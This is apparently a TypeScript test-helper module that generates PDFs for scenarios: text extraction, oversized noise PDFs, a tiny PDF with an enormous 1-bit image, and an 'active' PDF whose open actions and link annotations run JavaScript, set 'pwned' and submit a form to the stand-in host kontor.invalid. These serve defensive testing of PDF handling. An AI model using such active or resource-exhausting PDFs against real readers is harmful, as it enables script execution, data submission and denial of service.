/** PDFs as the scenarios need them: read by an independent reader, and made large enough to have several segments. */
import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { crc32, deflateSync } from 'node:zlib';
import { degrees, drawImage, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';

/**
 * Resolves with the text of a PDF file, pieces in the order of the file, white space between them folded to
 * one space.
 */
export async function textOf(path: string): Promise<string> {
  const data = new Uint8Array(await readFile(path));
  const pdf = await getDocument({ data, verbosity: 0 }).promise;
  const pages = await Promise.all(
    Array.from({ length: pdf.numPages }, async (_, index) => {
      const { items } = await (await pdf.getPage(index + 1)).getTextContent();
      return items.map((item) => ('str' in item ? item.str : '')).join(' ');
    }),
  );
  return pages.join(' ').replaceAll(/\s+/g, ' ');
}

/**
 * Makes a real PDF with a readable line and pictures of noise, which no compression makes smaller;
 * `mebibytes` at least.
 */
export async function largePdf(line: string, mebibytes: number): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage().drawText(line, { x: 50, y: 700, font: await pdf.embedFont(StandardFonts.Helvetica) });
  for (let picture = 0; picture < mebibytes; picture++) {
    const image = await pdf.embedPng(noisePng(592));
    pdf.addPage().drawImage(image, { x: 0, y: 0, width: 592, height: 592 });
  }
  return Buffer.from(await pdf.save());
}

/**
 * Makes a PDF that would run script, call home and submit a form when it is opened, wherever a reader lets
 * it.
 */
export async function activePdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage();
  page.drawText('active');
  const { context, catalog } = pdf;
  const script = 'app.alert(1); parent.pwned = 1; this.submitForm("http://kontor.invalid/form");';
  const action = { Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) };
  catalog.set(PDFName.of('OpenAction'), context.obj(action));
  const link = (uri: string) =>
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 600, 800],
        A: { Type: 'Action', S: 'URI', URI: PDFString.of(uri) },
        AA: { PO: action },
      }),
    );
  page.node.set(
    PDFName.of('Annots'),
    context.obj([link('javascript:parent.pwned=1'), link('http://kontor.invalid/')]),
  );
  page.node.set(PDFName.of('AA'), context.obj({ O: action }));
  return Buffer.from(await pdf.save());
}

/**
 * Makes a PDF of a few kilobytes with a word and a picture of `side` x `side` black pixels, of one bit each.
 */
export async function hugePicturePdf(word: string, side: number): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage();
  page.drawText(word, { x: 50, y: 700, font: await pdf.embedFont(StandardFonts.Helvetica) });
  const pixels = deflateSync(Buffer.alloc(Math.ceil(side / 8) * side));
  const about = {
    Type: 'XObject',
    Subtype: 'Image',
    Width: side,
    Height: side,
    ColorSpace: 'DeviceGray',
    BitsPerComponent: 1,
    Filter: 'FlateDecode',
  };
  const image = pdf.context.register(pdf.context.stream(pixels, about));
  const name = page.node.newXObject('Image', image);
  const none = { rotate: degrees(0), xSkew: degrees(0), ySkew: degrees(0) };
  page.pushOperators(...drawImage(name, { ...none, x: 0, y: 0, width: 200, height: 200 }));
  return Buffer.from(await pdf.save());
}

/** Returns a square RGB picture of random pixels: `side` x `side` x 3 bytes, as PNG. */
export function noisePng(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  // A row begins with the number of its filter: none.
  const rows = Array.from({ length: side }, () => Buffer.concat([Buffer.alloc(1), randomBytes(side * 3)]));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.concat(rows), { level: 0 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, checksum]);
}
